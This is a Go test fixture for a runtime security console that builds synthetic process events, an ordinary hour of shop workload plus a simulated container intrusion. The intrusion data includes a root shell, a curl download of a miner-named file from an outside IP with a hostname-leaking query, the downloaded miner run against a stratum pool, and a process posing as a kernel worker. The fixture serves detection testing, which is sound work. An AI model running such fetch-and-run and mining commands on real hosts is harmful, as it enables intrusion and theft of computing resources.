package consoletest

import (
	"slices"
	"strconv"
	"time"

	"github.com/castellan-security/castellan/internal/event"
)

// builder makes events; times are counted back from now.
type builder struct {
	now    time.Time
	events []event.Event
}

func key(pid uint32) event.Key { return event.Key{PID: pid, Start: uint64(pid) * 1_000_003} }

func (b *builder) add(ago time.Duration, kind event.Kind, workload, group string, p event.Process) *event.Event {
	agent := AgentID
	if workload == Worker {
		agent = Agent2ID
	}
	b.events = append(b.events, event.Event{
		Version: event.Version, AgentID: agent, Boot: Boot, Time: b.now.Add(-ago), Received: b.now.Add(-ago + 40*time.Millisecond),
		Kind: kind, WorkloadID: workload, Group: group, Process: p,
	})
	return &b.events[len(b.events)-1]
}

func process(pid, parent uint32, executable string) event.Process {
	name := executable
	for i := len(executable) - 1; i >= 0; i-- {
		if executable[i] == '/' {
			name = executable[i+1:]
			break
		}
	}
	return event.Process{
		Key: key(pid), ContainerPID: pid % 1000, Parent: key(parent),
		Name: name[:min(len(name), 15)], Executable: executable, UID: 1000, EUID: 1000, GID: 1000,
	}
}

// ordinary is an hour of a shop at work: more in the middle than at its ends.
func (b *builder) ordinary() {
	pid := uint32(20_000)
	for minute := 59; minute >= 0; minute-- {
		n := 3 + (minute*7)%5 + max(0, 9-abs(minute-28)/2)
		for i := range n {
			ago := time.Duration(minute)*time.Minute + time.Duration(55-i*2)*time.Second + 213*time.Millisecond
			pid++
			b.job(ago, pid, i)
		}
	}
}

func abs(n int) int { return max(n, -n) }

// job is one process from fork to exit.
func (b *builder) job(ago time.Duration, pid uint32, i int) {
	tools := []struct{ workload, group, exe, arg string }{
		{Worker, "shop/shop-worker/worker", "/usr/bin/convert", "-resize 640x480 /uploads/" + strconv.Itoa(int(pid)) + ".jpg"},
		{API, "shop/api/api", "/usr/local/bin/healthcheck", "http://127.0.0.1:8080/health"},
		{DB, "shop/store/store", "/usr/lib/store/checkpoint", "--data /data"},
		{"", "", "/usr/sbin/cron", "-f"},
	}
	t := tools[i%len(tools)]
	p := process(pid, 4_000, t.exe)
	b.add(ago, event.KindFork, t.workload, t.group, p)
	e := b.add(ago-3*time.Millisecond, event.KindExec, t.workload, t.group, p)
	e.Exec = &event.Exec{Args: []string{t.exe, t.arg}, Cwd: "/", Origin: event.OriginImage, Inode: 81_234, Device: 66_305}
	if t.workload == "" {
		e.Exec.Origin = event.OriginHost
	}
	e = b.add(ago-90*time.Millisecond, event.KindExit, t.workload, t.group, p)
	e.Exit = &event.Exit{Code: 0, Lifetime: 87 * time.Millisecond}
	if pid%29 == 0 {
		e.Exit = &event.Exit{Signal: 11, CoreDumped: true, Lifetime: 87 * time.Millisecond}
	}
}

// attacks is what the last quarter of an hour holds besides.
func (b *builder) attacks() {
	const group = "shop/storefront/storefront"
	exec := func(ago time.Duration, workload, group string, p event.Process, x event.Exec) {
		e := b.add(ago, event.KindExec, workload, group, p)
		x.Cwd = "/srv"
		e.Exec = &x
	}
	up := func(steps ...event.Ancestor) []event.Ancestor { return steps }
	shell := process(31_001, 4_100, "/bin/bash")
	shell.UID, shell.EUID, shell.GID = 0, 0, 0
	exec(14*time.Minute, Storefront, group, shell, event.Exec{
		Args: []string{"bash"}, Origin: event.OriginImage, Layer: event.Layer{Number: 2, Of: 4}, Entered: true, Capabilities: 0xa80425fb, Inode: 1_042, Device: 66_305,
		Ancestors: up(event.Ancestor{Key: key(900), Name: "containerd-shim", Executable: "/usr/bin/containerd-shim-runc-v2"}, event.Ancestor{Key: key(1), Name: "systemd", Executable: "/usr/lib/systemd/systemd"}),
	})
	exec(12*time.Minute, Storefront, group, process(31_010, 31_001, "/usr/bin/curl"), event.Exec{
		Args: []string{"curl", "-fsSLo", "/tmp/.x", "http://198.51.100.7/x86_64/kdevtmpfsi?id=$(hostname)"}, Origin: event.OriginImage,
		Ancestors: up(event.Ancestor{Key: key(31_001), Name: "bash", Executable: "/bin/bash"}),
	})
	exec(11*time.Minute+48*time.Second, Storefront, group, process(31_014, 31_001, "/tmp/.x"), event.Exec{
		Args: []string{"/tmp/.x", "-o", "stratum+tcp://pool.invalid:4444", "-u", "4AxZ"}, Origin: event.OriginWritten, Deleted: true, Capabilities: 0xa80425fb,
		Ancestors: up(event.Ancestor{Key: key(31_001), Name: "bash", Executable: "/bin/bash"}, event.Ancestor{Key: key(900), Name: "containerd-shim"}),
	})
	exec(6*time.Minute, API, "shop/api/api", process(32_050, 4_000, "memfd:kworker"), event.Exec{
		Args: []string{"[kworker/u8:2]"}, Origin: event.OriginMemory, Deleted: true,
	})
	su := process(32_100, 31_001, "/usr/bin/su")
	su.EUID = 0
	exec(5*time.Minute, Storefront, group, su, event.Exec{
		Requested: "/usr/local/bin/su", Args: []string{"su", "-"}, Origin: event.OriginImage, SetUID: true, Capabilities: 0x1ffffffffff,
	})
	exec(4*time.Minute, Worker, "shop/shop-worker/worker", process(33_000, 4_000, "/uploads/run me.sh"), event.Exec{
		Requested: "/uploads/run me.sh", Args: []string{"/bin/sh", "/uploads/run me.sh", ""}, Origin: event.OriginMount, ArgsTruncated: true,
	})
	evil := process(34_000, 6_660, "/tmp/"+HostileName)
	exec(2*time.Minute, Hostile, string(HostileGroup), evil, event.Exec{
		Args: []string{HostileName, HostileArg}, Origin: event.OriginWritten, Entered: true, PathTruncated: true, Capabilities: 0x1ffffffffff,
		Ancestors: up(event.Ancestor{Key: key(6_660), Name: "\x07bell\u202e", Executable: "/bin/" + HostileArg}),
	})
	slices.SortStableFunc(b.events, func(x, y event.Event) int { return x.Time.Compare(y.Time) })
}

// running is what runs now, and what ended a short while ago.
func running(now time.Time) []event.Running {
	began := now.Add(-3*time.Hour - 12*time.Minute)
	one := func(workload string, p event.Process, ago time.Duration, args ...string) event.Running {
		return event.Running{WorkloadID: workload, Process: p, Args: args, Origin: event.OriginImage, Started: now.Add(-ago)}
	}
	hours := now.Sub(began)
	shell := one(Storefront, process(31_001, 4_100, "/bin/bash"), 14*time.Minute, "bash")
	shell.Entered, shell.Process.UID = true, 0
	miner := one(Storefront, process(31_014, 31_001, "/tmp/.x"), 11*time.Minute, "/tmp/.x", "-o", "stratum+tcp://pool.invalid:4444", "-u", "4AxZ")
	miner.Origin = event.OriginWritten
	curl := one(Storefront, process(31_010, 31_001, "/usr/bin/curl"), 12*time.Minute, "curl", "-fsSLo", "/tmp/.x", "http://198.51.100.7/x86_64/kdevtmpfsi?id=$(hostname)")
	ended := now.Add(-70 * time.Second)
	curl.Ended, curl.Exit = &ended, &event.Exit{Code: 22, Lifetime: 12 * time.Second}
	evil := one(Hostile, process(34_000, 6_660, "/tmp/"+HostileName), 2*time.Minute, HostileName, HostileArg)
	evil.Entered, evil.Origin = true, event.OriginWritten
	host := process(1, 0, "/usr/lib/systemd/systemd")
	host.ContainerPID = 0
	return []event.Running{
		one(Storefront, process(4_001, 900, "/storefront"), hours, "/storefront", "--listen", ":8080"),
		one(Storefront, process(4_011, 4_001, "/storefront"), hours, "/storefront", "--worker", "1"),
		one(Storefront, process(4_012, 4_001, "/storefront"), hours, "/storefront", "--worker", "2"),
		one(Storefront, process(4_019, 4_012, "/usr/bin/convert"), 3*time.Second, "convert", "-resize", "640x480", "/uploads/a b.jpg"),
		shell, curl, miner,
		one(API, process(4_101, 900, "/api"), hours, "/api", "--listen", ":8080"),
		one(DB, process(4_201, 900, "/store"), hours, "/store", "--data", "/data"),
		one(Hostile, process(6_660, 900, "/bin/sh"), 9*time.Minute, "/bin/sh", "-c", HostileArg),
		evil,
		{Process: host, Args: []string{"/usr/lib/systemd/systemd", "--system"}, Origin: event.OriginHost, Started: now.Add(-30 * time.Hour)},
		{Process: process(900, 1, "/usr/bin/containerd-shim-runc-v2"), Origin: event.OriginHost, Started: began},
	}
}
